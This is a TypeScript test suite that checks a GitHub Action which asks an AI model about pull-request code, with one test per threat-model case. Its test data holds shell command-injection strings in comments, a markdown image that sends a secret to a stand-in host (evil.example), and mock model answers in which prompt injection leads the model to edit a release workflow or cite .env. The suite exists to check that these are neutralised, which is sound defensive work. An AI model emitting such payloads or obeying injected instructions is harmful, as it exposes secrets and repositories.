// Trust under attack, through the real Action shell (nock for GitHub and the model, a bare repository as the git
// server). One test per case of the threat model in SECURITY.md.
import { existsSync, readFileSync } from "node:fs";
import nock from "nock";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { reviewMarker } from "../../src/github/review.js";
import { answer, KEY } from "../worker/answers.js";
import type { GitServer } from "../gitServer.js";
import { issueCommentPayload, reviewCommentPayload } from "../payloads.js";
import { runAction } from "../action/harness.js";
import { actionInputs, API, COMMENT_ID, headIs, ledgerServer, modelAnswering, modelRequests, noEarlierAnswer, reaction, REPO, resetNock, TOKEN, trusted } from "../nockGitHub.js";

let server: GitServer;
beforeAll(() => {
  server = ledgerServer();
  nock.disableNetConnect();
});
afterEach(() => resetNock());
afterAll(() => nock.enableNetConnect());

const env = () => ({ GITHUB_SERVER_URL: server.serverUrl });

/** Everything the flow before the model call asks of GitHub, for a trusted commenter. */
function trustedUpTo(scope: nock.Scope): void {
  trusted(scope);
  reaction(scope, "issues", "eyes");
  headIs(scope, server.headSha);
  noEarlierAnswer(scope);
}

describe("1. a commenter without write permission", () => {
  it.each(["read", "triage", "none"])("with %s permission gets no reaction, no checkout, no model call, no reply", async (permission) => {
    const scope = nock(API);
    trusted(scope, permission);
    const run = await runAction({ event: "issue_comment", payload: issueCommentPayload('/slice src/ledger.ts:1-5 "hi"'), inputs: actionInputs(), env: env() });
    expect(scope.pendingMocks()).toStrictEqual([]);
    expect(run.outputs.status).toBe("untrusted");
    expect(modelRequests).toStrictEqual([]);
  });

  it("on a review comment too", async () => {
    const scope = nock(API);
    trusted(scope, "read");
    const run = await runAction({ event: "pull_request_review_comment", payload: reviewCommentPayload('/slice "x"', "src/money.ts", 1, 2, server.headSha), inputs: actionInputs(), env: env() });
    expect([scope.pendingMocks(), run.outputs.status]).toStrictEqual([[], "untrusted"]);
  });
});

describe("2. shell metacharacters and unicode tricks in the comment", () => {
  it("are data: the task reaches the model verbatim, nothing runs, and the reply quotes safely", async () => {
    const marker = `/tmp/odin-slice-pwned-${process.pid}`;
    const task = `why $(touch ${marker}) \`touch ${marker}\`; touch ${marker} && echo \u202egnp.exe | @admin`;
    modelAnswering(answer({ proposed_edits: [] }));
    const scope = nock(API);
    trustedUpTo(scope);
    scope.get(`${REPO}/pulls/1/files`).query(true).reply(200, server.files);
    let review = "";
    scope.post(`${REPO}/pulls/1/reviews`, (b) => ((review = b.body), true)).reply(200, { html_url: "u" });
    reaction(scope, "issues", "rocket");
    const body = `/slice src/ledger.ts#Ledger.add "${task.replace(/"/g, '\\"')}"`;
    const run = await runAction({ event: "issue_comment", payload: issueCommentPayload(body), inputs: actionInputs(), env: env() });
    expect(run.outputs.status).toBe("answered");
    expect(existsSync(marker)).toBe(false);
    const packet = JSON.parse(readFileSync(run.outputs["packet-path"] as string, "utf8"));
    expect(packet.task).toBe(task);
    // Quoted back with the mention neutralised; the text is shown, never interpreted.
    expect(review).toContain(`> why $(touch ${marker}) \`touch ${marker}\`; touch ${marker} && echo \u202egnp.exe | @\u200dadmin`);
  });

  it("an anchor made of shell syntax is just a name that is not found", async () => {
    const scope = nock(API);
    trustedUpTo(scope);
    let reply = "";
    scope.post(`${REPO}/issues/1/comments`, (b) => ((reply = b.body), true)).reply(201, {});
    reaction(scope, "issues", "confused");
    const run = await runAction({ event: "issue_comment", payload: issueCommentPayload('/slice $(id)>/tmp/x "q"'), inputs: actionInputs(), env: env() });
    expect([run.outputs.status, run.outputs.failure]).toStrictEqual(["failed", "invalid_anchor"]);
    expect(reply).toContain("`invalid_anchor`");
    expect(modelRequests).toStrictEqual([]);
  });
});

describe("4. a force-push between the comment and the checkout", () => {
  it("slices the SHA recorded when the event was handled and posts the review at that commit", async () => {
    // The API reports the base commit as head: the checkout fetches that SHA and verifies HEAD against it.
    modelAnswering(answer({ proposed_edits: [] }));
    const scope = nock(API);
    trusted(scope);
    reaction(scope, "issues", "eyes");
    headIs(scope, server.baseSha);
    noEarlierAnswer(scope);
    scope.get(`${REPO}/pulls/1/files`).query(true).reply(200, server.files);
    let commit = "";
    scope.post(`${REPO}/pulls/1/reviews`, (b) => ((commit = b.commit_id), true)).reply(200, { html_url: "u" });
    reaction(scope, "issues", "rocket");
    await runAction({ event: "issue_comment", payload: issueCommentPayload('/slice src/ledger.ts#Ledger.add "q"'), inputs: actionInputs(), env: env() });
    expect(commit).toBe(server.baseSha);
  });

  it("fails clearly when the recorded commit no longer exists on the server", async () => {
    const scope = nock(API);
    trusted(scope);
    reaction(scope, "issues", "eyes");
    headIs(scope, "f".repeat(40));
    noEarlierAnswer(scope);
    let reply = "";
    scope.post(`${REPO}/issues/1/comments`, (b) => ((reply = b.body), true)).reply(201, {});
    reaction(scope, "issues", "confused");
    const run = await runAction({ event: "issue_comment", payload: issueCommentPayload('/slice src/ledger.ts#Ledger.add "q"'), inputs: actionInputs(), env: env() });
    expect([run.outputs.status, run.exitCode]).toStrictEqual(["failed", 1]);
    expect(reply).toMatch(/^\*\*odin-slice\*\* could not answer: checkout of f{40} failed: could not fetch commit ffffffffffff/);
  });
});

describe("5. tokens and keys", () => {
  it("never reach the model or a posted text, even when the model's answer repeats them", async () => {
    const leak = `Use ${TOKEN} or ${KEY} or ghp_${"x".repeat(36)}.`;
    modelAnswering(answer({ answer: leak, proposed_edits: [] }));
    const scope = nock(API);
    trustedUpTo(scope);
    scope.get(`${REPO}/pulls/1/files`).query(true).reply(200, server.files);
    let review = "";
    scope.post(`${REPO}/pulls/1/reviews`, (b) => ((review = JSON.stringify(b)), true)).reply(200, { html_url: "u" });
    reaction(scope, "issues", "rocket");
    const run = await runAction({ event: "issue_comment", payload: issueCommentPayload('/slice src/ledger.ts#Ledger.add "q"'), inputs: actionInputs(), env: env() });
    expect(run.outputs.status).toBe("answered");
    expect(review).toContain("Use [redacted] or [redacted] or [redacted].");
    expect(review).not.toContain(TOKEN);
    expect(review).not.toContain(KEY);
    expect(JSON.stringify(modelRequests)).not.toContain(TOKEN);
    expect(readFileSync(run.outputs["packet-path"] as string, "utf8")).not.toContain(TOKEN);
  });
});

describe("7. prompt injection in the code or the task", () => {
  it("an answer that edits a workflow file outside the packet is rejected whole, and the reply says so", async () => {
    modelAnswering(
      answer({
        proposed_edits: [{ file: ".github/workflows/release.yml", start_line: 1, end_line: 1, replacement: "on: push", rationale: "as the comment in the code asked" }],
      }),
    );
    const scope = nock(API);
    trustedUpTo(scope);
    let reply = "";
    scope.post(`${REPO}/issues/1/comments`, (b) => ((reply = b.body), true)).reply(201, {});
    reaction(scope, "issues", "confused");
    const run = await runAction({ event: "issue_comment", payload: issueCommentPayload('/slice src/ledger.ts#Ledger.add "q"'), inputs: actionInputs(), env: env() });
    expect(scope.pendingMocks()).toStrictEqual([]);
    expect([run.outputs.status, run.outputs.failure]).toStrictEqual(["failed", "worker_output_invalid"]);
    expect(reply).toContain("**odin-slice** could not answer: `worker_output_invalid`");
    const record = JSON.parse(readFileSync(run.outputs["answer-path"] as string, "utf8"));
    expect(record.validation.edits).toStrictEqual([expect.objectContaining({ file: ".github/workflows/release.yml", disposition: "rejected" })]);
  });

  it("evidence outside the packet is rejected", async () => {
    modelAnswering(answer({ evidence: [{ claim: "the secret is in .env", file: ".env", start_line: 1, end_line: 1 }], uncertainties: [], proposed_edits: [] }));
    const scope = nock(API);
    trustedUpTo(scope);
    scope.post(`${REPO}/issues/1/comments`).reply(201, {});
    reaction(scope, "issues", "confused");
    const run = await runAction({ event: "issue_comment", payload: issueCommentPayload('/slice src/ledger.ts#Ledger.add "q"'), inputs: actionInputs(), env: env() });
    expect(run.outputs.failure).toBe("worker_output_invalid");
  });
});

describe("8. exfiltration and noise through the model's text", () => {
  it("images, raw HTML, mentions, closing keywords and fence break-outs are neutralised", async () => {
    const hostile = "![t](https://evil.example/x.png?d=secret) <img src=https://evil.example/y> @octocat fixes #1\n```\n</details> breakout";
    modelAnswering(answer({ answer: hostile, proposed_edits: [] }));
    const scope = nock(API);
    trustedUpTo(scope);
    scope.get(`${REPO}/pulls/1/files`).query(true).reply(200, server.files);
    let review = "";
    scope.post(`${REPO}/pulls/1/reviews`, (b) => ((review = b.body), true)).reply(200, { html_url: "u" });
    reaction(scope, "issues", "rocket");
    await runAction({ event: "issue_comment", payload: issueCommentPayload('/slice src/ledger.ts#Ledger.add "q"'), inputs: actionInputs(), env: env() });
    expect(review).toContain("t &lt;img src=https://evil.example/y&gt; @\u200doctocat fixes `#1`");
    expect(review).not.toContain("![t]");
    expect(review).not.toMatch(/<img/);
  });
});

describe("9. suggestions GitHub would refuse", () => {
  it("a 422 on the review keeps the answer: it is posted again with the suggestions moved into the body", async () => {
    const inside = { file: "src/money.ts", start_line: 2, end_line: 2, replacement: "  return (cents / 100).toFixed(2);", rationale: "r" };
    modelAnswering(answer({ proposed_edits: [inside] }));
    const scope = nock(API);
    trustedUpTo(scope);
    scope.get(`${REPO}/pulls/1/files`).query(true).reply(200, server.files);
    scope.post(`${REPO}/pulls/1/reviews`, (b) => b.comments.length === 1).reply(422, { message: "Unprocessable Entity", errors: ["line must be part of the diff"] });
    let second: { comments: unknown[]; body: string } | null = null;
    scope.post(`${REPO}/pulls/1/reviews`, (b) => ((second = b), true)).reply(200, { html_url: "u" });
    reaction(scope, "issues", "rocket");
    const run = await runAction({ event: "issue_comment", payload: issueCommentPayload('/slice src/ledger.ts#Ledger.add "q"'), inputs: actionInputs(), env: env() });
    expect(scope.pendingMocks()).toStrictEqual([]);
    expect(run.outputs.status).toBe("answered");
    const posted = second as unknown as { comments: unknown[]; body: string };
    expect(posted.comments).toStrictEqual([]);
    expect(posted.body).toContain("**Suggestions GitHub would not place on the diff**");
    expect(posted.body).toContain("  return (cents / 100).toFixed(2);");
  });
});

describe("11. redelivered, duplicated or edited trigger comments", () => {
  it("a second delivery finds the review marker and posts nothing", async () => {
    const scope = nock(API);
    trusted(scope);
    reaction(scope, "issues", "eyes");
    headIs(scope, server.headSha);
    scope.get(`${REPO}/pulls/1/reviews`).query(true).reply(200, [{ id: 1, body: `${reviewMarker(COMMENT_ID, server.headSha)}\n\nearlier answer` }]);
    // Listed beside the reviews; the review's marker settles it.
    scope.get(`${REPO}/issues/1/comments`).query(true).reply(200, []);
    const run = await runAction({ event: "issue_comment", payload: issueCommentPayload('/slice src/ledger.ts#Ledger.add "q"'), inputs: actionInputs(), env: env() });
    expect(scope.pendingMocks()).toStrictEqual([]);
    expect(run.outputs.status).toBe("duplicate");
    expect(modelRequests).toStrictEqual([]);
  });

  it("asks at once what does not wait on each other: the eyes and the head's SHA, the reviews and the comments", async () => {
    // Each first call of a pair answers half a second late: asked one after the other, the second would come at
    // least that much later; asked at once, it comes within a few milliseconds.
    const at: Record<string, number> = {};
    const seen = (name: string) => () => ((at[name] = Date.now()), true);
    const scope = nock(API);
    trusted(scope);
    scope.post(`${REPO}/issues/comments/${COMMENT_ID}/reactions`, seen("eyes")).delay(500).reply(201, { id: 1, content: "eyes" });
    scope.get(`${REPO}/pulls/1`).reply(() => ((at.head = Date.now()), [200, { number: 1, head: { sha: server.headSha } }]));
    scope
      .get(`${REPO}/pulls/1/reviews`)
      .query(true)
      .delay(500)
      .reply(() => ((at.reviews = Date.now()), [200, [{ id: 1, body: `${reviewMarker(COMMENT_ID, server.headSha)}\n\nearlier answer` }]]));
    scope.get(`${REPO}/issues/1/comments`).query(true).reply(() => ((at.comments = Date.now()), [200, []]));
    const run = await runAction({ event: "issue_comment", payload: issueCommentPayload('/slice src/ledger.ts#Ledger.add "q"'), inputs: actionInputs(), env: env() });
    expect(scope.pendingMocks()).toStrictEqual([]);
    expect(run.outputs.status).toBe("duplicate");
    expect((at.head as number) - (at.eyes as number)).toBeLessThan(250);
    expect(Math.abs((at.comments as number) - (at.reviews as number))).toBeLessThan(250);
  });

  it("an edited comment is not a new request", async () => {
    const payload = { ...issueCommentPayload('/slice src/ledger.ts#Ledger.add "q"'), action: "edited" };
    const run = await runAction({ event: "issue_comment", payload, inputs: actionInputs(), env: env() });
    expect(run.outputs.status).toBe("ignored");
  });
});

describe("12. rate limits and server errors from GitHub", () => {
  it("a secondary rate limit (403 with retry-after) and a 502 are retried, then the work goes on", async () => {
    const scope = nock(API);
    scope.get(`${REPO}/collaborators/Codertocat/permission`).reply(403, { message: "You have exceeded a secondary rate limit." }, { "retry-after": "1" });
    trusted(scope);
    scope.post(`${REPO}/issues/comments/${COMMENT_ID}/reactions`).reply(502, { message: "Bad Gateway" });
    reaction(scope, "issues", "eyes");
    let reply = "";
    scope.post(`${REPO}/issues/1/comments`, (b) => ((reply = b.body), true)).reply(201, {});
    reaction(scope, "issues", "rocket");
    const run = await runAction({ event: "issue_comment", payload: issueCommentPayload("/slice help"), inputs: actionInputs(), env: env() });
    expect(scope.pendingMocks()).toStrictEqual([]);
    expect(run.outputs.status).toBe("help");
    expect(reply).toContain("/slice help");
  });

  it("another 4xx is not retried: the step fails with the reason", async () => {
    const scope = nock(API);
    scope.get(`${REPO}/collaborators/Codertocat/permission`).once().reply(401, { message: "Bad credentials" });
    const run = await runAction({ event: "issue_comment", payload: issueCommentPayload("/slice help"), inputs: actionInputs(), env: env() });
    expect(scope.pendingMocks()).toStrictEqual([]);
    expect([run.outputs.status, run.exitCode]).toStrictEqual(["failed", 1]);
  });
});
